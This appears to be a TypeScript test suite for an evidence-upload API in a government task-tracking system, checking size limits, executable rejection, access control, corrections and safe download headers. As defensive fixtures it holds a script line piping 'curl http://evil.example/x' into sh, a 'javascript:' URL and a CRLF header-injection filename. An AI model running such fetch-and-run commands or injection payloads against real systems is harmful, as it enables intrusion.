import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { basename } from 'node:path';
import { evidenceWorld, PDF, type EvidenceWorld, type Json } from './evidence-support.js';

const MAX = 4096;
const sha256 = (b: Buffer) => createHash('sha256').update(b).digest('hex');

const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(120, 1)]);
const MZ = Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00'), Buffer.from('This program cannot be run in DOS mode.'), Buffer.alloc(64)]);
const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');

describe('evidence (履职留痕) over HTTP', () => {
  let w: EvidenceWorld;
  let taskId: string;

  beforeAll(async () => {
    w = await evidenceWorld({ env: { EVIDENCE_MAX_BYTES: String(MAX) } });
    taskId = await w.taskInProgress('编制村庄规划审查意见');
  });
  afterAll(() => w.close());

  const evidenceOf = async (id: string) => (await w.call('GET', `/api/tasks/${id}/evidence`, 'officer1')).body as unknown as Json[];

  it('streams a file to storage under a server-generated name, records its SHA-256 and an evidence.added event', async () => {
    const res = await w.upload(taskId, 'officer1', [
      { name: 'description', value: '审查意见扫描件' },
      { name: 'file', fileName: '会议纪要.pdf', content: PDF, type: 'application/pdf' },
    ]);
    expect(res.status).toBe(201);
    expect(res.body).toMatchObject({
      kind: 'FILE',
      fileName: '会议纪要.pdf',
      mimeType: 'application/pdf',
      size: PDF.length,
      sha256: sha256(PDF),
      content: { description: '审查意见扫描件' },
      current: true,
    });

    const [row] = await w.t.db.sql(`SELECT storage_key FROM evidence WHERE id = $1`, [res.body.id]);
    expect(row!.storage_key).toMatch(/^[0-9a-f]{2}\/[0-9a-f-]{36}$/);
    const { objects, staging } = w.stored();
    expect(staging).toEqual([]);
    const object = objects.find((p) => p.endsWith(row!.storage_key))!;
    expect(readFileSync(object)).toEqual(PDF);
    expect(objects.every((p) => !p.includes('会议纪要'))).toBe(true);

    const history = (await w.call('GET', `/api/tasks/${taskId}/history`, 'officer1')).body as unknown as Json[];
    expect(history.at(-1)).toMatchObject({
      type: 'evidence.added',
      data: { evidenceId: res.body.id, kind: 'FILE', role: 'ASSIGNEE', file: { name: '会议纪要.pdf', size: PDF.length, sha256: sha256(PDF) } },
    });
  });

  it('refuses a file over EVIDENCE_MAX_BYTES with 413 and keeps nothing; exactly the limit passes', async () => {
    const before = w.stored().objects.length;
    const tooBig = await w.upload(taskId, 'officer1', [{ name: 'file', fileName: 'big.txt', content: Buffer.alloc(MAX + 1, 'a') }]);
    expect(tooBig).toMatchObject({ status: 413, body: { code: 'EVIDENCE_TOO_LARGE', details: { maxBytes: MAX } } });
    expect(w.stored()).toEqual({ objects: expect.any(Array), staging: [] });
    expect(w.stored().objects).toHaveLength(before);

    const atLimit = await w.upload(taskId, 'officer1', [{ name: 'file', fileName: 'limit.txt', content: Buffer.alloc(MAX, 'a') }]);
    expect(atLimit).toMatchObject({ status: 201, body: { size: MAX, mimeType: 'text/plain; charset=utf-8' } });
  });

  it.each([
    ['an ELF binary', ELF],
    ['a Windows executable', MZ],
    ['a shell script', SCRIPT],
  ])('refuses %s renamed x.pdf (judged by content, not name or declared type)', async (_name, content) => {
    const before = w.stored().objects.length;
    const res = await w.upload(taskId, 'officer1', [{ name: 'file', fileName: 'x.pdf', content, type: 'application/pdf' }]);
    expect(res).toMatchObject({ status: 422, body: { code: 'EVIDENCE_TYPE_NOT_ALLOWED', details: { reason: 'EXECUTABLE' } } });
    expect(w.stored().objects).toHaveLength(before);
    expect(w.stored().staging).toEqual([]);
  });

  it('refuses unknown binaries and empty files; a text file named .bat downloads as .bat.txt', async () => {
    const binary = await w.upload(taskId, 'officer1', [{ name: 'file', fileName: '规划图.pdf', content: Buffer.from([0, 1, 2, 3, 0xff, 0xfe]) }]);
    expect(binary).toMatchObject({ status: 422, body: { code: 'EVIDENCE_TYPE_NOT_ALLOWED', details: { reason: 'UNKNOWN' } } });
    const empty = await w.upload(taskId, 'officer1', [{ name: 'file', fileName: 'empty.pdf', content: Buffer.alloc(0) }]);
    expect(empty).toMatchObject({ status: 422, body: { code: 'EVIDENCE_FILE_EMPTY' } });
    const noFile = await w.upload(taskId, 'officer1', [{ name: 'description', value: '忘了附件' }]);
    expect(noFile).toMatchObject({ status: 400, body: { code: 'EVIDENCE_FILE_MISSING' } });

    const text = await w.upload(taskId, 'officer1', [{ name: 'file', fileName: 'run.bat', content: Buffer.from('echo 已核对\r\n') }]);
    expect(text.status).toBe(201);
    const download = await w.call('GET', `/api/evidence/${text.body.id}/download`, 'officer1');
    expect(download.headers['content-disposition']).toBe(`attachment; filename="run.bat.txt"; filename*=UTF-8''run.bat.txt`);
  });

  it('records notes, links, document numbers and minutes; bad input names the field', async () => {
    const items = [
      { kind: 'NOTE', text: '已与测绘院电话核实边界' },
      { kind: 'LINK', url: 'https://zrzy.example.gov.cn/gs/2026/12.html', title: '批前公示' },
      { kind: 'DOC_NUMBER', number: '自然资规〔2026〕12号', issuedOn: '2026-11-20' },
      { kind: 'MINUTES', date: '2026-11-25', participants: ['张建国', '李敏', '王磊'], conclusions: '原则同意，按意见修改后报批' },
    ];
    for (const item of items) {
      const res = await w.call('POST', `/api/tasks/${taskId}/evidence`, 'officer1', item);
      const { kind, ...content } = item;
      expect(res).toMatchObject({ status: 201, body: { kind, content, fileName: null, sha256: null } });
    }
    expect(await w.call('POST', `/api/tasks/${taskId}/evidence`, 'officer1', { kind: 'LINK', url: 'javascript:alert(1)' })).toMatchObject({
      status: 400,
      body: { code: 'EVIDENCE_INVALID', details: { fields: [{ field: 'url' }] } },
    });
    expect((await w.call('POST', `/api/tasks/${taskId}/evidence`, 'officer1', { kind: 'FILE' })).body.code).toBe('EVIDENCE_INVALID');
  });

  it('hides the task from users who may not see it (404), and refuses others who may see it but not add (403)', async () => {
    const [file] = (await evidenceOf(taskId)).filter((e) => e.kind === 'FILE');
    for (const url of [`/api/tasks/${taskId}/evidence`, `/api/tasks/${taskId}/history`, `/api/tasks/${taskId}/evidence-bundle`]) {
      expect(await w.call('GET', url, 'officer3')).toMatchObject({ status: 404, body: { code: 'TASK_NOT_FOUND' } });
    }
    expect(await w.call('GET', `/api/evidence/${file!.id}/download`, 'officer3')).toMatchObject({ status: 404, body: { code: 'EVIDENCE_NOT_FOUND' } });
    expect(await w.call('POST', `/api/tasks/${taskId}/evidence`, 'officer3', { kind: 'NOTE', text: 'x' })).toMatchObject({ status: 404, body: { code: 'TASK_NOT_FOUND' } });
    const upload = await w.upload(taskId, 'officer3', [{ name: 'file', fileName: 'a.pdf', content: PDF }]);
    expect(upload).toMatchObject({ status: 404, body: { code: 'TASK_NOT_FOUND' } });
    expect(await w.call('GET', '/api/evidence/00000000-0000-4000-8000-000000000000/download', 'admin')).toMatchObject({ status: 404, body: { code: 'EVIDENCE_NOT_FOUND' } });

    // The deputy supervises the post: may read and download, but the work is not theirs.
    expect((await w.call('GET', `/api/tasks/${taskId}/evidence`, 'deputy')).status).toBe(200);
    expect((await w.call('GET', `/api/evidence/${file!.id}/download`, 'deputy')).status).toBe(200);
    expect(await w.call('POST', `/api/tasks/${taskId}/evidence`, 'deputy', { kind: 'NOTE', text: '代为补充' })).toMatchObject({
      status: 403,
      body: { code: 'EVIDENCE_NOT_ALLOWED' },
    });
  });

  it('a correction supersedes the old item and both are kept; only the latest own item can be corrected', async () => {
    const first = await w.call('POST', `/api/tasks/${taskId}/evidence`, 'officer1', { kind: 'DOC_NUMBER', number: '自然资规〔2026〕21号' });
    const fixed = await w.call('POST', `/api/tasks/${taskId}/evidence`, 'officer1', { kind: 'DOC_NUMBER', number: '自然资规〔2026〕12号', supersedesId: first.body.id });
    expect(fixed).toMatchObject({ status: 201, body: { supersedesId: first.body.id, current: true } });
    const listed = await evidenceOf(taskId);
    expect(listed.find((e) => e.id === first.body.id)).toMatchObject({ current: false, supersededById: fixed.body.id, content: { number: '自然资规〔2026〕21号' } });
    expect(listed.find((e) => e.id === fixed.body.id)).toMatchObject({ current: true, supersedesId: first.body.id });

    const again = { kind: 'DOC_NUMBER', number: '自然资规〔2026〕13号', supersedesId: first.body.id };
    expect(await w.call('POST', `/api/tasks/${taskId}/evidence`, 'officer1', again)).toMatchObject({ status: 409, body: { code: 'EVIDENCE_ALREADY_SUPERSEDED' } });
    expect(await w.call('POST', `/api/tasks/${taskId}/evidence`, 'officer1', { kind: 'NOTE', text: 'x', supersedesId: fixed.body.id })).toMatchObject({
      status: 422,
      body: { code: 'EVIDENCE_SUPERSEDE_INVALID', details: { reason: 'KIND_MISMATCH' } },
    });

    // Two corrections of one item at once: exactly one wins.
    const base = await w.call('POST', `/api/tasks/${taskId}/evidence`, 'officer1', { kind: 'NOTE', text: '初稿' });
    const racing = await Promise.all(
      ['修订一', '修订二'].map((text) => w.call('POST', `/api/tasks/${taskId}/evidence`, 'officer1', { kind: 'NOTE', text, supersedesId: base.body.id })),
    );
    expect(racing.map((r) => r.status).sort()).toEqual([201, 409]);

    // A file is corrected through the same form field; both files stay downloadable.
    const v1 = await w.upload(taskId, 'officer1', [{ name: 'file', fileName: '方案v1.txt', content: Buffer.from('第一版') }]);
    const v2 = await w.upload(taskId, 'officer1', [
      { name: 'file', fileName: '方案v2.txt', content: Buffer.from('第二版') },
      { name: 'supersedesId', value: v1.body.id },
    ]);
    expect(v2).toMatchObject({ status: 201, body: { supersedesId: v1.body.id } });
    for (const [id, text] of [[v1.body.id, '第一版'], [v2.body.id, '第二版']]) {
      const res = await w.call('GET', `/api/evidence/${id}/download`, 'officer1');
      expect(res.raw.toString()).toBe(text);
    }
    const events = (await w.call('GET', `/api/tasks/${taskId}/history`, 'officer1')).body as unknown as Json[];
    expect(events.filter((e) => e.type === 'evidence.added' && e.data.supersedesId === v1.body.id)).toHaveLength(1);
  });

  it('downloads with safe headers: RFC 5987 filename* for a Chinese name, an ASCII fallback, nosniff, no injection', async () => {
    // As a browser sends it: UTF-8 bytes, with CR/LF percent-encoded (a raw line break drops the part).
    const up = await w.upload(taskId, 'officer1', [{ name: 'file', fileName: '国土空间规划审查意见(终);%0D%0AX-Evil: 1.pdf', content: PDF }]);
    expect(up).toMatchObject({ status: 201, body: { fileName: '国土空间规划审查意见(终);%0D%0AX-Evil_ 1.pdf' } });
    const res = await w.call('GET', `/api/evidence/${up.body.id}/download`, 'officer1');
    expect(res.status).toBe(200);
    expect(res.raw).toEqual(PDF);
    expect(res.headers).toMatchObject({
      'content-type': 'application/pdf',
      'content-length': String(PDF.length),
      'x-content-type-options': 'nosniff',
      'cache-control': 'private, no-store',
      'repr-digest': `sha-256=:${createHash('sha256').update(PDF).digest('base64')}:`,
    });
    expect(res.headers['x-evil']).toBeUndefined();
    const disposition = res.headers['content-disposition'] as string;
    expect(disposition).toBe(
      `attachment; filename="_(_);_0D_0AX-Evil_ 1.pdf"; filename*=UTF-8''` +
        '%E5%9B%BD%E5%9C%9F%E7%A9%BA%E9%97%B4%E8%A7%84%E5%88%92%E5%AE%A1%E6%9F%A5%E6%84%8F%E8%A7%81%28%E7%BB%88%29%3B%250D%250AX-Evil_%201.pdf',
    );
    expect(decodeURIComponent(disposition.split("UTF-8''")[1]!)).toBe(up.body.fileName);
    expect(disposition).toMatch(/^attachment; filename="[\x20-\x21\x23-\x5b\x5d-\x7e]*"; filename\*=UTF-8''[A-Za-z0-9!#$&+\-.^_`|~%]+$/);
  });

  it('blocks 报审 with 422 listing missing required evidence (from the work item) and passes once present', async () => {
    const [item] = await w.t.db.sql(
      `UPDATE work_item SET required_evidence = '{DOC_NUMBER,FILE}'
        WHERE id = (SELECT w.id FROM work_item w JOIN post p ON p.id = w.post_id WHERE p.code = 'officer-1' ORDER BY w.seq LIMIT 1)
        RETURNING id`,
    );
    const id = await w.taskInProgress('报送规划实施评估报告', { workItemId: item!.id });
    const submit = () => w.call('POST', `/api/tasks/${id}/submit`, 'officer1');

    expect(await submit()).toMatchObject({ status: 422, body: { code: 'TASK_EVIDENCE_MISSING', details: { missing: ['DOC_NUMBER', 'FILE'] } } });
    await w.call('POST', `/api/tasks/${id}/evidence`, 'officer1', { kind: 'DOC_NUMBER', number: '自然资函〔2026〕88号' });
    const stillMissing = await submit();
    expect(stillMissing).toMatchObject({ status: 422, body: { code: 'TASK_EVIDENCE_MISSING', details: { missing: ['FILE'] } } });
    expect(stillMissing.body.message).toContain('附件');
    await w.upload(id, 'officer1', [{ name: 'file', fileName: '评估报告.pdf', content: PDF }]);
    expect(await submit()).toMatchObject({ status: 200, body: { status: 'SUBMITTED' } });

    // Submitted: frozen for the assignee; the reviewer of the current step may add.
    expect(await w.call('POST', `/api/tasks/${id}/evidence`, 'officer1', { kind: 'NOTE', text: '补充' })).toMatchObject({
      status: 409,
      body: { code: 'EVIDENCE_UNDER_REVIEW' },
    });
    const review = await w.call('POST', `/api/tasks/${id}/evidence`, 'deputy', { kind: 'NOTE', text: '已核对文号与附件一致' });
    expect(review.status).toBe(201);
    const events = (await w.call('GET', `/api/tasks/${id}/history`, 'deputy')).body as unknown as Json[];
    expect(events.map((e) => e.type)).toEqual([
      'task.created',
      'task.accepted',
      'task.started',
      'evidence.added',
      'evidence.added',
      'task.submitted',
      'evidence.added',
    ]);
    expect(events.at(-1)!.data).toMatchObject({ role: 'REVIEWER' });
  });

  it('a finished or cancelled task takes no more evidence', async () => {
    const id = await w.taskInProgress('临时交办事项');
    expect((await w.call('POST', `/api/tasks/${id}/cancel`, 'chief', { reason: '任务合并' })).status).toBe(200);
    expect(await w.call('POST', `/api/tasks/${id}/evidence`, 'officer1', { kind: 'NOTE', text: '迟到的材料' })).toMatchObject({
      status: 409,
      body: { code: 'EVIDENCE_TASK_CLOSED' },
    });
  });

  it('never keeps a user-supplied name on disk', () => {
    expect(w.stored().objects.map((p) => basename(p)).every((n) => /^[0-9a-f-]{36}$/.test(n))).toBe(true);
  });
});
